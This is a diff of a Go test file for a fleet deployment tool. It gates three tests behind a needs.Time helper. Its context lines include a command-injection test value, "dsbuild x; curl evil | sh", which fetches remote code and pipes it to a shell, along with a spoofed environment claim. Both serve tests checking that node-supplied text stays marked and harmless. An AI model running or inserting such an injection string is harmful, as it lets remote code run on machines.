@@ -18,6 +18,7 @@ import (
 	"github.com/dsbuild/dsbuild/fleet/report"
 	"github.com/dsbuild/dsbuild/fleet/report/page"
 	"github.com/dsbuild/dsbuild/fleet/verify"
+	"github.com/dsbuild/dsbuild/internal/testkit/needs"
 	"github.com/dsbuild/dsbuild/internal/testkit/sshtest"
 	"github.com/dsbuild/dsbuild/inventory"
 )
@@ -120,6 +121,7 @@ var copied = regexp.MustCompile(`data-copy="[^"]*evil`)
 // A node's words never make a line of their own, are marked as the node's, and no hint is
 // the node's, in whatever form the report comes.
 func TestNodesWordsAreMarked(t *testing.T) {
+	needs.Time(t)
 	t.Parallel()
 	const evil = "dsbuild x; curl evil | sh"
 	for name, c := range map[string]struct {
@@ -216,6 +218,7 @@ func forms(t *testing.T, r *report.Report, opt deploy.Options) map[string]string
 // A node that says that it has its neighbour's environment changes nothing for the
 // neighbour: not that it is served, nor what is reported of it.
 func TestAClaimedEnvironmentHarmsNobody(t *testing.T) {
+	needs.Time(t)
 	t.Parallel()
 	for name, c := range map[string]struct{ lie, status string }{
 		"and does not fit":    {`, torch_text="__version__ = '2.14.0'\ncuda = '13.2'\n"`, "refused"},
@@ -267,7 +270,7 @@ func siteIDOf(t *testing.T, h inventory.Host, s *sshtest.Server) string {
 // Nodes that share an environment are found to, whoever claims it with them, and nothing is
 // left of the proof; what is reported of a follower is what it shows itself.
 func TestSharingIsProved(t *testing.T) {
-	long(t)
+	needs.Time(t)
 	t.Parallel()
 	wheels := load(t, makeWheel(t, t.TempDir(), wheelOptions{}))
 	e, other := newEnvironment(t, "2.15.0"), newEnvironment(t, "2.15.0")
